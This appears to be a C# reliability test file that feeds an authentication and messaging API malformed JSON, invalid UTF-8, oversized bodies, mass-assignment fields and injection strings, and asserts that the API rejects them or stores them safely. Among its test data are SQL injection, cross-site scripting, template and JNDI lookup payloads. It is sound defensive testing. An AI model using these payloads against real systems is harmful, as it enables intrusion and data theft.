using System.Text;
using System.Text.Json;

namespace JustScale.Reliability.Tests;

// Bodies: broken and deeply nested JSON, invalid UTF-8, NUL bytes, sizes, wrong types, missing fields, overlong values, injection strings.
internal sealed partial class BadInputCorpus
{
    private const string InvalidJson = "Invalid JSON body";

    private const string UnsupportedMediaType = "Unsupported Media Type";

    /// <summary>Gets the body limit of register and login in the example (<c>.MaxBodySize(8 * 1024)</c>).</summary>
    private const int AuthBodyLimit = 8 * 1024;
    private const int DefaultBodyLimit = 64 * 1024;

    /// <summary>Bodies that are not JSON (or not UTF-8): 400 "Invalid JSON body" on every route, before anything else runs.</summary>
    private IEnumerable<BadCase> BrokenJson()
    {
        var bodies = new List<(string Name, byte[] Body)>
        {
            ("open brace", Utf8("{")),
            ("unterminated member", Utf8("{\"email\":")),
            ("unterminated array", Utf8("[1,2")),
            ("bare word", Utf8("nul")),
            ("single quotes", Utf8("{'email':'a@b.c'}")),
            ("unquoted names", Utf8("{email: \"a@b.c\"}")),
            ("trailing comma", Utf8("{\"email\":\"a@b.c\",}")),
            ("two values", Utf8("{} {}")),
            ("trailing garbage", Utf8("{\"email\":\"a@b.c\"}garbage")),
            ("comment", Utf8("/* hi */ {}")),
            ("NaN", Utf8("NaN")),
            ("bad escape", Utf8("{\"email\":\"\\x41\"}")),
            ("short unicode escape", Utf8("{\"email\":\"\\u12\"}")),
            ("raw control character in a string", Utf8("{\"email\":\"a\u0001b@c.d\"}")),
            ("raw NUL byte", [.. Utf8("{\"email\":\"a"), 0x00, .. Utf8("b@c.d\"}")]),
            ("NUL bytes only", new byte[64]),
            ("invalid UTF-8 (C3 28)", [.. Utf8("{\"email\":\"a"), 0xC3, 0x28, .. Utf8("@b.c\",\"password\":\"p\"}")]),
            ("invalid UTF-8 (FF)", [.. Utf8("{\"email\":\"a@b.c\",\"password\":\""), 0xFF, 0xFE, .. Utf8("\"}")]),
            ("overlong UTF-8 (C0 AF)", [.. Utf8("{\"name\":\""), 0xC0, 0xAF, .. Utf8("\"}")]),
            ("UTF-8 encoded surrogate (ED A0 80)", [.. Utf8("{\"email\":\""), 0xED, 0xA0, 0x80, .. Utf8("@b.c\"}")]),
            ("UTF-16 body", Encoding.Unicode.GetBytes("{\"email\":\"a@b.c\"}")),
            ("form encoded", Utf8("email=a%40b.c&password=p")),
            ("whitespace only", Utf8("   \r\n\t ")),
            ("deep arrays (10,000)", Utf8(new string('[', 10_000) + new string(']', 10_000))),
            ("deep objects (65)", Utf8(string.Concat(Enumerable.Repeat("{\"a\":", 65)) + "1" + new string('}', 65))),
            ("deep member (100 inside a valid body)", Utf8("{\"email\":\"a@b.c\",\"password\":\"p\",\"name\":" + new string('[', 100) + new string(']', 100) + "}")),
            ("unclosed deep arrays (900 KB)", Utf8(new string('[', 900_000))),
        };

        foreach (var route in Routes)
        {
            foreach (var (name, body) in bodies)
            {
                yield return new BadCase("broken JSON", route.Name, name, To(route, body), Expect.ClientError) { Status = 400, Error = InvalidJson };
            }
        }
    }

    /// <summary>Bodies over the 1 MiB limit, declared or chunked: 413 "Payload Too Large" on every route.</summary>
    private IEnumerable<BadCase> Sizes()
    {
        var justOver = Utf8("\"" + new string('a', (1024 * 1024) - 1) + "\"");
        var tenMegabytes = Utf8("{\"email\":\"" + new string('a', 10 * 1024 * 1024) + "@b.c\",\"password\":\"p\"}");
        foreach (var route in Routes)
        {
            yield return new BadCase("size", route.Name, "1 MiB + 1 byte", To(route, justOver), Expect.ClientError) { Status = 413, Error = "Payload Too Large" };
            yield return new BadCase("size", route.Name, "10 MB declared", To(route, tenMegabytes), Expect.ClientError) { Status = 413, Error = "Payload Too Large" };
            var chunked = Request(route.Method, route.Path, Chunked(tenMegabytes, 64 * 1024), null, ("Transfer-Encoding", "chunked"), ("Content-Type", "application/json"));
            yield return new BadCase("size", route.Name, "10 MB chunked", chunked, Expect.ClientError) { Status = 413, Error = "Payload Too Large" };
        }
    }

    /// <summary>Register bodies: wrong types and missing fields (400), overlong values (400), and odd but valid input stored literally (200).</summary>
    private IEnumerable<BadCase> RegisterBodies()
    {
        const string password = ApiClient.Password;
        var route = Routes[0];
        BadCase Bad(string name, object body, string? error = null) =>
            new("register body", route.Name, name, To(route, Json(body)), Expect.ClientError) { Status = 400, Error = error };
        BadCase BadRaw(string name, string json, string? error = null) =>
            new("register body", route.Name, name, To(route, Utf8(json)), Expect.ClientError) { Status = 400, Error = error };

        yield return BadRaw("empty object", "{}");
        yield return BadRaw("empty body", "");
        yield return Bad("email only", new { email = NewEmail("x") });
        yield return Bad("password only", new { password });
        yield return Bad("email null", new { email = (string?)null, password });
        yield return Bad("email a number", new { email = 123, password });
        yield return Bad("email true", new { email = true, password });
        yield return Bad("email an array", new { email = new[] { "a@b.c" }, password });
        yield return BadRaw("email an operator object", "{\"email\":{\"$ne\":null},\"password\":\"p\"}");
        yield return BadRaw("email 1e999", "{\"email\":1e999,\"password\":\"p\"}");
        yield return Bad("password a number", new { email = NewEmail("x"), password = 123456 });
        yield return Bad("password null", new { email = NewEmail("x"), password = (string?)null });
        yield return Bad("password an array", new { email = NewEmail("x"), password = new[] { "p" } });
        yield return Bad("name a number", new { email = NewEmail("x"), password, name = 42 });
        yield return Bad("name an object", new { email = NewEmail("x"), password, name = new { first = "Ada" } });
        yield return BadRaw("body an array", "[]");
        yield return BadRaw("body a string", "\"a@b.c\"");
        yield return BadRaw("body a number", "42");
        yield return BadRaw("body null", "null");
        yield return BadRaw("body true", "true");
        yield return Bad("email empty", new { email = "", password }, "Email required");
        yield return Bad("email blank", new { email = "   ", password }, "Email required");
        yield return Bad("email without @", new { email = "not-an-email", password }, "Invalid email");
        yield return Bad("email without domain", new { email = "a@", password }, "Invalid email");
        yield return Bad("email without local part", new { email = "@b.c", password }, "Invalid email");
        yield return Bad("email with two @", new { email = "a@@b.c", password }, "Invalid email");
        yield return Bad("email with a space", new { email = "a b@c.d", password }, "Invalid email");
        yield return Bad("SQL injection email with spaces", new { email = "x'; DROP TABLE users; --@example.com", password }, "Invalid email");
        yield return Bad("email with NUL", new { email = "a\0b@c.d", password }, "Invalid email");
        yield return Bad("email with a newline", new { email = "a\nb@c.d", password }, "Invalid email");
        yield return BadRaw("email with a lone surrogate escape", "{\"email\":\"a\\ud800b@c.d\",\"password\":\"p\"}");
        yield return Bad("email 256 characters", new { email = new string('a', 244) + "@example.com", password }, "Invalid email");
        yield return Bad("email 64 KB", new { email = new string('a', 65536) + "@example.com", password }, "Invalid email");
        yield return Bad("email 900 KB", new { email = new string('a', 900_000) + "@example.com", password }, "Invalid email");
        yield return Bad("password empty", new { email = NewEmail("x"), password = "" }, "Password required");
        yield return Bad("password 1025 bytes", new { email = NewEmail("x"), password = new string('p', 1025) });
        yield return Bad("password 342 euro signs (1026 bytes)", new { email = NewEmail("x"), password = new string('€', 342) });
        yield return Bad("password 100 KB", new { email = NewEmail("x"), password = new string('p', 100_000) });
        yield return Bad("name 101 characters", new { email = NewEmail("x"), password, name = new string('n', 101) }, "Name exceeds 100 characters");
        yield return Bad("name 101 emoji", new { email = NewEmail("x"), password, name = string.Concat(Enumerable.Repeat("😀", 101)) }, "Name exceeds 100 characters");
        yield return Bad("name 10 KB", new { email = NewEmail("x"), password, name = new string('n', 10_000) }, "Name exceeds 100 characters");
        yield return Bad("name with NUL", new { email = NewEmail("x"), password, name = "Ada\0Lovelace" });
        yield return BadRaw("name with a lone surrogate escape", "{\"email\":\"" + NewEmail("x") + "\",\"password\":\"p\",\"name\":\"\\udc00\"}");

        // Outside RFC 5321's dot-atom (a quoted local part, characters no atom holds, a domain that is no host name): 400.
        foreach (var email in new[]
        {
            "x@example.com';drop-table-users;--",
            "<script>alert(1)</script>@example.com",
            "\"quoted\\\"local\"@example.com",
            "robert'); DELETE FROM sessions;--@example.com".Replace(" ", "", StringComparison.Ordinal),
        })
        {
            var unique = email.Replace("@", "." + _run + Guid.NewGuid().ToString("N")[..4] + "@", StringComparison.Ordinal);
            yield return Bad($"injection email {email}", new { email = unique, password }, "Invalid email");
        }

        // Odd but valid dot-atoms: stored exactly as given (email trimmed and lowercased), answered 200 with a working token.
        foreach (var email in new[]
        {
            "'or'1'='1@example.com",
            "admin'--@example.com",
        })
        {
            var unique = email.Replace("@", "." + _run + Guid.NewGuid().ToString("N")[..4] + "@", StringComparison.Ordinal);
            yield return Accepted($"injection email {email}", new { email = unique, password }, unique.ToLowerInvariant(), null);
        }

        foreach (var name in new[]
        {
            "Robert'); DROP TABLE users;--",
            "<img src=x onerror=alert(1)>",
            "</script><script>alert(document.cookie)</script>",
            "{{7*7}} ${7*7} ${jndi:ldap://evil/a}",
            "\u202Eevil\u202C right-to-left override",
            string.Concat(Enumerable.Repeat("😀", 100)),
            new string('n', 100),
        })
        {
            var email = NewEmail("name");
            yield return Accepted($"odd name {Shorten(name)}", new { email, password, name }, email, name);
        }

        var padded = NewEmail("padded");
        yield return Accepted("email with spaces around and upper case", new { email = "  " + padded.ToUpperInvariant() + "\t", password }, padded, null);
        var unicodePassword = NewEmail("unicode");
        yield return Accepted("password with NUL, emoji and a lone surrogate", new { email = unicodePassword, password = "pa\0ssword😀\ud800" }, unicodePassword, null);
        var longest = NewEmail("longest");
        yield return Accepted("password exactly 1024 bytes", new { email = longest, password = new string('p', 1024) }, longest, null);
        var upper = NewEmail("keys");
        yield return AcceptedRaw("member names in upper case", $"{{\"EMAIL\":\"{upper}\",\"PASSWORD\":\"{password}\"}}", upper, null);
        var mass = NewEmail("mass");
        yield return AcceptedRaw(
            "mass assignment (id, emailVerifiedAt, passwordHash, disabledAt)",
            $"{{\"email\":\"{mass}\",\"password\":\"{password}\",\"id\":\"00000000-0000-0000-0000-000000000001\",\"emailVerifiedAt\":\"2020-01-01T00:00:00Z\",\"passwordHash\":\"x\",\"disabledAt\":\"2020-01-01T00:00:00Z\",\"lastLoginAt\":\"2020-01-01T00:00:00Z\"}}",
            mass,
            null,
            extra: async () =>
            {
                var row = await Database.ScalarAsync<string>(connectionString,
                    "SELECT concat_ws('|', id::text, email_verified_at::text, password_hash, disabled_at::text, last_login_at::text) FROM users WHERE email = $1", mass);
                Assert.That(row, Does.Not.Contain("00000000-0000-0000-0000-000000000001").And.Not.Contain("2020-01-01"), "client-sent fields were stored");
                Assert.That(row.Split('|')[^1], Does.Match("^[0-9a-f]{64}:[0-9a-f]{128}$"), "the password hash was taken from the body");
            });
        var first = NewEmail("dup-first");
        var last = NewEmail("dup-last");
        yield return new BadCase("register body", route.Name, "duplicate email member (the last one wins)",
            To(route, Utf8($"{{\"email\":\"{first}\",\"email\":\"{last}\",\"password\":\"{password}\"}}")), Expect.Accepted)
        {
            NewUsers = 1,
            NewSessions = 1,
            Verify = async _ =>
            {
                Assert.That(await CountUsersAsync(first), Is.Zero);
                Assert.That(await CountUsersAsync(last), Is.EqualTo(1));
            },
        };
    }

    /// <summary>Login bodies: wrong types and missing fields (400), bad or overlong credentials (401, never 500).</summary>
    private IEnumerable<BadCase> LoginBodies()
    {
        var route = Routes[1];
        BadCase Bad(string name, object body) =>
            new("login body", route.Name, name, To(route, Json(body)), Expect.ClientError) { Status = 400 };
        BadCase Refused(string name, object body) =>
            new("login body", route.Name, name, To(route, Json(body)), Expect.ClientError) { Status = 401, Error = "Invalid credentials" };

        yield return new BadCase("login body", route.Name, "empty object", To(route, Utf8("{}")), Expect.ClientError) { Status = 400 };
        yield return Bad("email null", new { email = (string?)null, password = "p" });
        yield return Bad("email a number", new { email = 1, password = "p" });
        yield return Bad("email an operator object", new { email = new { gt = "" }, password = "p" });
        yield return Bad("password an array", new { email = "a@b.c", password = new[] { "p" } });
        yield return Bad("password true", new { email = "a@b.c", password = true });
        yield return Bad("body an array", new[] { "a@b.c", "p" });
        yield return Refused("SQL injection email", new { email = "' OR '1'='1", password = "' OR '1'='1" });
        yield return Refused("SQL injection in the password", new { email = "nobody@example.com", password = "' OR 1=1 --" });
        yield return Refused("empty credentials", new { email = "", password = "" });
        yield return Refused("email with NUL", new { email = "a\0@b.c", password = "p" });
        yield return Refused("email with a lone surrogate", new { email = "a\ud800@b.c", password = "p" });
        yield return Refused("email 64 KB", new { email = new string('a', 65536) + "@b.c", password = "p" });
        yield return Refused("password 100 KB", new { email = "nobody@example.com", password = new string('p', 100_000) });
        yield return Refused("password with NUL", new { email = "nobody@example.com", password = "\0" });
        yield return Refused("LIKE wildcards", new { email = "%@%", password = "%" });
        yield return Refused("regular expression", new { email = ".*", password = ".*" });
    }

    /// <summary>Message bodies (with the victim's token, verified): 400 for wrong shapes, 201 echoing odd text JSON-escaped.</summary>
    private IEnumerable<BadCase> MessageBodies()
    {
        var route = Routes[7];
        BadCase Bad(string name, string json) =>
            new("message body", route.Name, name, To(route, Utf8(json)), Expect.ClientError) { Status = 400 };

        yield return Bad("empty object", "{}");
        yield return Bad("text null", "{\"text\":null}");
        yield return Bad("text a number", "{\"text\":1}");
        yield return Bad("text an object", "{\"text\":{\"a\":1}}");
        yield return Bad("text an array", "{\"text\":[\"a\"]}");
        yield return Bad("body an array", "[\"text\"]");
        yield return Bad("body a string", "\"text\"");
        foreach (var text in new[] { "<script>alert(1)</script>", "a\0b", "'; DROP TABLE users; --", new string('t', 60_000), "\u2028\u2029😀" })
        {
            yield return new BadCase("message body", route.Name, $"odd text {Shorten(text)}", To(route, Json(new { text })), Expect.Accepted)
            {
                Status = 201,
                Verify = response =>
                {
                    Assert.That(response.Text, Does.Not.Contain("<script>"), "HTML reached the body unescaped");
                    using var json = JsonDocument.Parse(response.Body);
                    Assert.That(json.RootElement.GetProperty("text").GetString(), Is.EqualTo(text));
                    return Task.CompletedTask;
                },
            };
        }
    }

    private BadCase Accepted(string name, object body, string storedEmail, string? storedName) =>
        AcceptedRaw(name, Encoding.UTF8.GetString(Json(body)), storedEmail, storedName);

    private BadCase AcceptedRaw(string name, string json, string storedEmail, string? storedName, Func<Task>? extra = null) =>
        new("register body", "register", name, To(Routes[0], Utf8(json)), Expect.Accepted)
        {
            Status = 200,
            NewUsers = 1,
            NewSessions = 1,
            Verify = async response =>
            {
                using var answer = JsonDocument.Parse(response.Body);
                Assert.That(response.Text, Does.Not.Contain("<script>"), "HTML reached the body unescaped");
                Assert.That(answer.RootElement.GetProperty("user").GetProperty("email").GetString(), Is.EqualTo(storedEmail));
                var row = await Database.ScalarAsync<string>(connectionString, "SELECT coalesce(name, '<null>') FROM users WHERE email = $1", storedEmail);
                Assert.That(row, Is.EqualTo(storedName ?? "<null>"), "the name was not stored literally");
                if (extra is not null)
                {
                    await extra();
                }
            },
        };

    private Task<long> CountUsersAsync(string email) =>
        Database.ScalarAsync<long>(connectionString, "SELECT count(*) FROM users WHERE email = $1", email);

    private static byte[] Json(object body) => JsonSerializer.SerializeToUtf8Bytes(body);

    private static string Shorten(string text) => text.Length > 24 ? text[..24] + $"... ({text.Length} chars)" : text;

    private static byte[] Chunked(byte[] body, int chunk)
    {
        using var stream = new MemoryStream();
        for (var offset = 0; offset < body.Length; offset += chunk)
        {
            var size = Math.Min(chunk, body.Length - offset);
            stream.Write(RawHttp.Latin1($"{size:x}\r\n"));
            stream.Write(body, offset, size);
            stream.Write("\r\n"u8);
        }

        stream.Write("0\r\n\r\n"u8);
        return stream.ToArray();
    }
}
